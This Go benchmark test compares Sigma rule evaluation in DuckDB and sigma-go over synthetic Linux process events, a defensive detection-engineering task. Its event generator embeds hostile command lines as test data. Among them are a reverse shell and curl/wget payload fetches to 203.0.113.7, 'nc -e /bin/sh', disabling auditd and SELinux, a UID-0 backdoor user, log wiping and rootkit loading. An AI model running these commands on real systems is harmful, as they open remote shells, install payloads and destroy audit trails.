package detect_test

// BenchmarkLinuxRulesDuckDBvsSigmaGo measures what issue #4 asks: every
// Linux process_creation rule (SigmaHQ's rules/linux/process_creation plus
// Vigil's own detect/rules) compiled by detect/sigma and run in DuckDB over
// synthetic process events, next to the same rules evaluated in Go by
// github.com/bradleyjkemp/sigma-go over the same events, in the same run.
//
//	go test ./detect -run '^$' -bench LinuxRulesDuckDBvsSigmaGo -benchtime 1x -v
//	VIGIL_BENCH_EVENTS=1000000 go test ./detect -run '^$' -bench LinuxRulesDuckDBvsSigmaGo -benchtime 1x -timeout 40m -v
//
// The default is 50,000 events (about a minute in all on a 2-core
// machine): the sigma-go side runs at about 1,000-1,500 events/s with
// these rules, so 200,000 events take about 2.5 minutes and 1,000,000
// about 17. Metrics: duckdb_events/s and sigmago_events/s (events examined
// by all rules per second of wall time), duckdb/sigmago (their ratio),
// rules, and the matches of each side; -v logs the rules whose match
// counts differ and the slowest rules in DuckDB.

import (
	"context"
	"database/sql/driver"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	sigmago "github.com/bradleyjkemp/sigma-go"
	"github.com/bradleyjkemp/sigma-go/evaluator"
	"github.com/duckdb/duckdb-go/v2"

	"github.com/vigilhq/vigil/detect/internal/duckdbtest"
	"github.com/vigilhq/vigil/detect/rules"
	"github.com/vigilhq/vigil/detect/sigma"
	"github.com/vigilhq/vigil/schema"
)

const sgDefaultEvents = 50_000

// sgRule is one rule both sides can run.
type sgRule struct {
	file  string
	ours  sigma.Query
	their sigmago.Rule
}

// sgEvent is one synthetic process execution.
type sgEvent struct {
	image, cmdline, parentImage, parentCmd, user, cwd string
	pid, ppid, auid                                   int64
}

// fields fills m with the event under its Sigma field names.
func (e *sgEvent) fields(m map[string]any) {
	m["Image"] = e.image
	m["CommandLine"] = e.cmdline
	m["ParentImage"] = e.parentImage
	m["ParentCommandLine"] = e.parentCmd
	m["User"] = e.user
	m["CurrentDirectory"] = e.cwd
	m["ProcessId"] = e.pid
	m["ParentProcessId"] = e.ppid
	m["LogonId"] = e.auid
}

func sgEventCount(b *testing.B) int {
	n := sgDefaultEvents
	if s := os.Getenv("VIGIL_BENCH_EVENTS"); s != "" {
		v, err := strconv.Atoi(s)
		if err != nil || v <= 0 {
			b.Fatalf("VIGIL_BENCH_EVENTS=%q: want a positive number of events", s)
		}
		n = v
	}
	return n
}

func BenchmarkLinuxRulesDuckDBvsSigmaGo(b *testing.B) {
	ctx := context.Background()
	n := sgEventCount(b)
	brules := sgLoadRules(b)
	events := sgSynthesize(n)

	db := duckdbtest.Open(b)
	tbl, _ := schema.Lookup("process_creation")
	db.CreateTable(b, tbl)
	start := time.Now()
	sgAppend(b, ctx, db, tbl, events)
	b.Logf("%d events loaded into DuckDB in %v", n, time.Since(start).Round(time.Millisecond))

	theirs := make([]sigmago.Rule, 0, len(brules))
	for _, r := range brules {
		theirs = append(theirs, r.their)
	}
	bundle := evaluator.ForRules(theirs)

	b.ResetTimer()
	var duckDur, goDur time.Duration
	var duckMatches, goMatches int
	perRuleDuck := map[string]int{}
	perRuleGo := map[string]int{}
	ruleDur := make([]time.Duration, len(brules))
	for i := 0; i < b.N; i++ {
		duckMatches, goMatches = 0, 0
		clear(perRuleDuck)
		clear(perRuleGo)

		// DuckDB: each rule as the engine runs it, over the whole table.
		t0 := time.Now()
		for k, r := range brules {
			tr := time.Now()
			q := `SELECT * FROM "process_creation" WHERE "seq" > ? AND "seq" <= ? AND (` + r.ours.Where + `) ORDER BY "seq"`
			rows, err := db.SQL.QueryContext(ctx, q, 0, n)
			if err != nil {
				b.Fatalf("%s: %v", r.file, err)
			}
			for rows.Next() {
				duckMatches++
				perRuleDuck[r.their.Title]++
			}
			if err := rows.Err(); err != nil {
				b.Fatalf("%s: %v", r.file, err)
			}
			rows.Close()
			ruleDur[k] += time.Since(tr)
		}
		duckDur += time.Since(t0)

		// sigma-go: every rule over every event with its bundle (Aho-Corasick
		// for contains). One map is refilled per event, so building events
		// is not what is measured.
		t0 = time.Now()
		m := map[string]any{}
		for j := range events {
			events[j].fields(m)
			res, err := bundle.Matches(ctx, m)
			if err != nil {
				b.Fatal(err)
			}
			for _, r := range res {
				if r.Match {
					goMatches++
					perRuleGo[r.Rule.Title]++
				}
			}
		}
		goDur += time.Since(t0)
	}
	b.StopTimer()

	duckRate := float64(n) * float64(b.N) / duckDur.Seconds()
	goRate := float64(n) * float64(b.N) / goDur.Seconds()
	b.ReportMetric(duckRate, "duckdb_events/s")
	b.ReportMetric(goRate, "sigmago_events/s")
	b.ReportMetric(duckRate/goRate, "duckdb/sigmago")
	b.ReportMetric(float64(len(brules)), "rules")
	b.ReportMetric(float64(duckMatches), "duckdb_matches")
	b.ReportMetric(float64(goMatches), "sigmago_matches")
	b.Logf("%d events x %d rules: DuckDB %v (%.0f events/s), sigma-go %v (%.0f events/s), ratio %.2f",
		n, len(brules), (duckDur / time.Duration(b.N)).Round(time.Millisecond), duckRate,
		(goDur / time.Duration(b.N)).Round(time.Millisecond), goRate, duckRate/goRate)
	sgLogDifferences(b, perRuleDuck, perRuleGo)

	order := make([]int, len(brules))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(i, j int) bool { return ruleDur[order[i]] > ruleDur[order[j]] })
	var slow []string
	for _, i := range order[:min(5, len(order))] {
		slow = append(slow, fmt.Sprintf("  %v %s", (ruleDur[i]/time.Duration(b.N)).Round(time.Millisecond), brules[i].file))
	}
	b.Logf("slowest rules in DuckDB:\n%s", strings.Join(slow, "\n"))
}

// sgLogDifferences lists the rules with matches, marking those whose
// counts differ between the two sides.
func sgLogDifferences(b *testing.B, duck, gos map[string]int) {
	titles := map[string]bool{}
	for t := range duck {
		titles[t] = true
	}
	for t := range gos {
		titles[t] = true
	}
	var lines []string
	for t := range titles {
		tag := "same"
		if duck[t] != gos[t] {
			tag = "DIFFERENT"
		}
		lines = append(lines, fmt.Sprintf("  %-9s duckdb %7d  sigma-go %7d  %s", tag, duck[t], gos[t], t))
	}
	sort.Strings(lines)
	b.Logf("rules with matches:\n%s", strings.Join(lines, "\n"))
}

// sgLoadRules reads the Linux process_creation rules, compiles them with
// detect/sigma (the schema mapping the server uses) and parses them with
// sigma-go; a rule is benchmarked when both accept it.
func sgLoadRules(b *testing.B) []sgRule {
	dir := filepath.Join(sgRepoRoot(b), "..", "shared", "sigma-rules", "rules", "linux", "process_creation")
	if _, err := os.Stat(dir); err != nil {
		b.Skipf("skipping: SigmaHQ rules not found at %s (%v)", dir, err)
	}
	type file struct {
		name string
		data []byte
	}
	var files []file
	entries, err := os.ReadDir(dir)
	if err != nil {
		b.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".yml") {
			data, err := os.ReadFile(filepath.Join(dir, e.Name()))
			if err != nil {
				b.Fatal(err)
			}
			files = append(files, file{filepath.Join("linux/process_creation", e.Name()), data})
		}
	}
	err = fs.WalkDir(rules.FS, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".yml") {
			return err
		}
		data, err := rules.FS.ReadFile(p)
		files = append(files, file{"detect/rules/" + p, data})
		return err
	})
	if err != nil {
		b.Fatal(err)
	}

	probe := map[string]any{}
	(&sgEvent{image: "/usr/bin/true", cmdline: "true", user: "root"}).fields(probe)
	var out []sgRule
	var oursFailed, theirsFailed []string
	for _, f := range files {
		rs, errs := sigma.Parse(f.name, f.data)
		if len(errs) > 0 || len(rs) != 1 || rs[0].Kind != sigma.KindRule || rs[0].Logsource.Category != "process_creation" {
			continue // not a single process_creation detection rule
		}
		q, err := sigma.Compile(rs[0], sigma.Options{})
		if err != nil {
			oursFailed = append(oursFailed, fmt.Sprintf("%s: %v", f.name, err))
			continue
		}
		their, err := sigmago.ParseRule(f.data)
		if err == nil {
			// sigma-go reports unsupported modifiers only when evaluating.
			_, err = evaluator.ForRule(their).Matches(context.Background(), probe)
		}
		if err != nil {
			theirsFailed = append(theirsFailed, fmt.Sprintf("%s: %v", f.name, err))
			continue
		}
		out = append(out, sgRule{file: f.name, ours: q, their: their})
	}
	b.Logf("%d rules run by both; detect/sigma failed %d, sigma-go failed %d", len(out), len(oursFailed), len(theirsFailed))
	for _, s := range oursFailed {
		b.Logf("  detect/sigma: %s", s)
	}
	for _, s := range theirsFailed {
		b.Logf("  sigma-go: %s", s)
	}
	if len(out) == 0 {
		b.Fatal("no rules to run")
	}
	return out
}

func sgRepoRoot(b *testing.B) string {
	dir, err := os.Getwd()
	if err != nil {
		b.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			b.Skip("skipping: repository root (go.mod) not found")
		}
		dir = parent
	}
}

// sgAppend loads the events with DuckDB's appender, as ingest does.
func sgAppend(b *testing.B, ctx context.Context, db *duckdbtest.DB, tbl schema.Table, events []sgEvent) {
	conn, err := db.SQL.Conn(ctx)
	if err != nil {
		b.Fatal(err)
	}
	defer conn.Close()
	cols := tbl.AllColumns()
	base := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	err = conn.Raw(func(dc any) error {
		a, err := duckdb.NewAppenderFromConn(dc.(driver.Conn), "", tbl.Name)
		if err != nil {
			return err
		}
		row := make([]driver.Value, len(cols))
		for i := range events {
			e := &events[i]
			at := base.Add(time.Duration(i) * 10 * time.Millisecond)
			vals := map[string]driver.Value{
				"event_id": "ev-" + strconv.Itoa(i), "host_id": "host-" + strconv.Itoa(i%50), "hostname": "web-" + strconv.Itoa(i%50),
				"event_time": at, "ingested_at": at, "seq": int64(i + 1),
				"process_pid": e.pid, "process_parent_pid": e.ppid, "process_executable": e.image,
				"process_name": filepath.Base(e.image), "process_command_line": e.cmdline,
				"process_working_directory": e.cwd, "process_parent_executable": e.parentImage,
				"process_parent_command_line": e.parentCmd, "user_id": int64(0), "user_name": e.user,
				"user_effective_id": int64(0), "user_audit_id": e.auid, "group_id": int64(0),
				"group_effective_id": int64(0), "process_syscall": "execve",
			}
			for j, c := range cols {
				row[j] = vals[c.Name]
			}
			if err := a.AppendRow(row...); err != nil {
				a.Close()
				return err
			}
		}
		return a.Close()
	})
	if err != nil {
		b.Fatalf("appending events: %v", err)
	}
}

// sgSynthesize makes n process events: a fixed-seed mix of what a Linux
// server runs all day (shells, package managers, cron jobs, services,
// interpreters, admin tools), with about one in a thousand taken from
// attack command lines that Linux Sigma rules look for. Some benign
// commands (ls, find, id, curl) match SigmaHQ's low-level discovery rules,
// as they do on real servers.
func sgSynthesize(n int) []sgEvent {
	rng := rand.New(rand.NewPCG(4, 2026))
	users := []string{"root", "root", "root", "www-data", "alice", "bob", "postgres", "deploy", "nobody", "systemd-network"}
	dirs := []string{"/", "/root", "/home/alice", "/home/bob", "/var/www/html", "/srv/app", "/tmp", "/var/lib/postgresql"}
	parents := []struct{ image, cmd string }{
		{"/usr/bin/bash", "-bash"},
		{"/usr/sbin/cron", "/usr/sbin/CRON -f"},
		{"/usr/lib/systemd/systemd", "/sbin/init"},
		{"/usr/sbin/sshd", "sshd: alice@pts/0"},
		{"/usr/bin/dash", "/bin/sh -c run-parts --report /etc/cron.daily"},
		{"/usr/bin/python3.11", "/usr/bin/python3 /srv/app/manage.py runworker"},
		{"/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby"},
	}
	words := []string{"config", "report", "data", "build", "cache", "index", "main", "backup", "app", "service", "log", "user"}
	word := func() string { return words[rng.IntN(len(words))] }
	num := func() string { return strconv.Itoa(rng.IntN(100000)) }
	benign := []func() (string, string){
		func() (string, string) { return "/usr/bin/ls", "ls -la /var/log/" + word() },
		func() (string, string) { return "/usr/bin/cat", "cat /proc/" + num() + "/status" },
		func() (string, string) { return "/usr/bin/grep", "grep -r " + word() + " /etc/" + word() + ".d" },
		func() (string, string) { return "/usr/bin/ps", "ps aux" },
		func() (string, string) {
			return "/usr/bin/python3.11", "/usr/bin/python3 /srv/app/" + word() + ".py --worker " + num()
		},
		func() (string, string) { return "/usr/bin/git", "git -C /srv/app fetch origin " + word() },
		func() (string, string) { return "/usr/bin/systemctl", "systemctl status " + word() + ".service" },
		func() (string, string) { return "/usr/bin/apt-get", "apt-get -qq update" },
		func() (string, string) { return "/usr/bin/dpkg", "dpkg --status lib" + word() },
		func() (string, string) {
			return "/usr/bin/curl", "curl -fsS -o /dev/null https://status.example.com/" + word() + "?id=" + num()
		},
		func() (string, string) {
			return "/usr/bin/bash", "/bin/bash -c /usr/local/bin/" + word() + "-" + word() + ".sh"
		},
		func() (string, string) {
			return "/usr/bin/find", "find /var/tmp -mtime +" + strconv.Itoa(rng.IntN(30)) + " -delete"
		},
		func() (string, string) {
			return "/usr/bin/tar", "tar czf /backup/" + word() + "-" + num() + ".tgz /srv/" + word()
		},
		func() (string, string) { return "/usr/bin/docker", "docker ps --format {{.Names}}" },
		func() (string, string) {
			return "/usr/bin/sed", "sed -i s/" + word() + "/" + word() + "/g /srv/app/" + word() + ".conf"
		},
		func() (string, string) { return "/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log" },
		func() (string, string) { return "/usr/bin/sleep", "sleep " + strconv.Itoa(rng.IntN(60)) },
		func() (string, string) { return "/usr/bin/id", "id -u" },
		func() (string, string) {
			return "/usr/bin/ssh", "ssh -o BatchMode=yes deploy@10.0.0." + strconv.Itoa(rng.IntN(255)) + " uptime"
		},
		func() (string, string) { return "/usr/bin/node", "node /srv/app/dist/" + word() + ".js" },
	}
	attacks := []struct{ image, cmd string }{
		{"/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
		{"/usr/bin/dash", "sh -c curl -s http://203.0.113.7/x.sh | sh"},
		{"/usr/bin/base64", "base64 -d /tmp/.x"},
		{"/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"},
		{"/usr/bin/chmod", "chmod +x /tmp/.kworker"},
		{"/usr/bin/crontab", "crontab -r"},
		{"/usr/bin/history", "history -c"},
		{"/usr/bin/systemctl", "systemctl stop auditd"},
		{"/usr/sbin/setenforce", "setenforce 0"},
		{"/usr/sbin/iptables", "iptables -F"},
		{"/usr/bin/python3", `python3 -c 'import pty;pty.spawn("/bin/bash")'`},
		{"/usr/bin/wget", "wget http://203.0.113.7/miner -O /tmp/xmrig"},
		{"/usr/sbin/useradd", "useradd -o -u 0 -g 0 backdoor"},
		{"/usr/bin/rm", "rm -rf /var/log/auth.log"},
		{"/usr/bin/shred", "shred -u /root/.bash_history"},
		{"/usr/bin/touch", "touch -r /bin/ls /usr/bin/.x"},
		{"/usr/sbin/insmod", "insmod /tmp/rootkit.ko"},
		{"/usr/bin/chattr", "chattr +i /etc/passwd"},
		{"/usr/bin/xclip", "xclip -o -selection clipboard"},
		{"/usr/bin/nohup", "nohup /tmp/.x/kdevtmpfsi &"},
	}
	out := make([]sgEvent, n)
	for i := range out {
		p := parents[rng.IntN(len(parents))]
		e := sgEvent{
			parentImage: p.image, parentCmd: p.cmd, user: users[rng.IntN(len(users))],
			cwd: dirs[rng.IntN(len(dirs))], pid: int64(1000 + rng.IntN(4_000_000)), ppid: int64(1 + rng.IntN(100_000)),
			auid: int64(rng.IntN(3) * 1000),
		}
		if rng.IntN(1000) == 0 {
			a := attacks[rng.IntN(len(attacks))]
			e.image, e.cmdline = a.image, a.cmd
		} else {
			e.image, e.cmdline = benign[rng.IntN(len(benign))]()
		}
		out[i] = e
	}
	return out
}
